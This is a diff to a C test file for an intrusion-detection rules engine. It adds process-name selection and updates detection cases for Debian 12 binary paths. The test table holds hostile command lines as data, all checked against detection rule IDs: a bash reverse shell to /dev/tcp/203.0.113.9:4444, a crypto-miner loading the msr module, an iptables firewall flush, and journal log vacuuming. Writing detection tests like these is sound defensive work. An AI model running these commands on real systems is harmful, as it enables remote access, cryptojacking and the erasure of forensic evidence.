@@ -21,6 +21,7 @@
 #include <cmocka.h>
 
 #include "model/event.h"
+#include "model/proc_name.h"
 #include "rules/fields.h"
 #include "rules/rules.h"
 
@@ -86,6 +87,8 @@ static void tproc_set(struct tproc *t, const char *exe, const char *args,
 		}
 		t->p.cmdline = t->cmd;
 	}
+	/* The model's naming rule, as the process cache applies it. */
+	t->p.name = proc_name__pick(&t->p);
 }
 
 struct tev {
@@ -1062,15 +1065,17 @@ static const struct dcase dcases[] = {
     {"reverse shell over /dev/tcp", "/usr/bin/bash",
      "bash|-c|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/", NULL,
      "/usr/bin/dash", "sh", NULL, 0, "MW-EVASION-006"},
-    {"xmrig loads the msr module", "/usr/sbin/modprobe",
-     "/sbin/modprobe|msr|allow_writes=on", "/", NULL, "/usr/bin/dash",
+    /* Debian 12: modprobe runs kmod, iptables xtables-nft-multi. */
+    {"xmrig loads the msr module", "/usr/bin/kmod",
+     "/sbin/modprobe|msr|allow_writes=on", "/", "/sbin/modprobe",
+     "/usr/bin/dash",
      "sh|-c|/sbin/modprobe msr allow_writes=on > /dev/null 2>&1", NULL, 0,
      "MW-MINER-008"},
     {"logs vacuumed by hand", "/usr/bin/journalctl",
      "journalctl|--vacuum-time=1s", "/", NULL, "/usr/bin/bash", "bash", NULL, 0,
      "MW-FORENSICS-001"},
-    {"setenforce 0 and firewall flushed", "/usr/sbin/iptables", "iptables|-F",
-     "/", NULL, "/usr/bin/bash", "bash|/tmp/i.sh", NULL, 0, "MW-EVASION-003"},
+    {"setenforce 0 and firewall flushed", "/usr/sbin/xtables-nft-multi",
+     "iptables|-F", "/", "/usr/sbin/iptables", "/usr/bin/bash", "bash|/tmp/i.sh", NULL, 0, "MW-EVASION-003"},
     {"minerd from /tmp with cryptonight over stratum+ssl", "/tmp/minerd",
      "minerd|-a|cryptonight|-o|stratum+ssl://x.example:443", "/tmp", NULL,
      "/usr/bin/bash", "bash", "/usr/sbin/sshd", 0,
@@ -1144,8 +1149,8 @@ static const struct dcase dcases[] = {
      NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
     {"admin curls a page", "/usr/bin/curl", "curl|-fsSL|https://example.org/",
      "/", NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
-    {"modprobe a filesystem", "/usr/sbin/modprobe", "modprobe|ext4", "/", NULL,
-     "/usr/bin/bash", "-bash", NULL, 0, ""},
+    {"modprobe a filesystem", "/usr/bin/kmod", "modprobe|ext4", "/",
+     "/usr/sbin/modprobe", "/usr/bin/bash", "-bash", NULL, 0, ""},
     {"journalctl reading logs", "/usr/bin/journalctl", "journalctl|-u|ssh", "/",
      NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
     {"nc as a client", "/usr/bin/nc", "nc|-zv|10.0.0.1|22", "/", NULL,
@@ -1296,9 +1301,11 @@ static void build_dcase(struct tev *t, const struct dcase *c)
 
 	memset(t, 0, sizeof(*t));
 	tproc_set(&t->self, c->exe, c->args, c->cwd);
-	if (c->exec_path)
+	if (c->exec_path) {
 		snprintf(t->self.exec_path, sizeof(t->self.exec_path), "%s",
 			 c->exec_path);
+		t->self.p.name = proc_name__pick(&t->self.p);
+	}
 	t->self.p.flags = c->flags;
 	if (c->pexe)
 		tproc_set(&t->parent, c->pexe, c->pargs, "/");
@@ -1310,9 +1317,11 @@ static void build_dcase(struct tev *t, const struct dcase *c)
 		if (script)
 			*script++ = '\0';
 		tproc_set(&t->anc[n], tok, NULL, "/");
-		if (script)
+		if (script) {
 			snprintf(t->anc[n].exec_path,
 				 sizeof(t->anc[n].exec_path), "%s", script);
+			t->anc[n].p.name = proc_name__pick(&t->anc[n].p);
+		}
 		n++;
 	}
 	tev_wire(t, c->pexe != NULL, n);
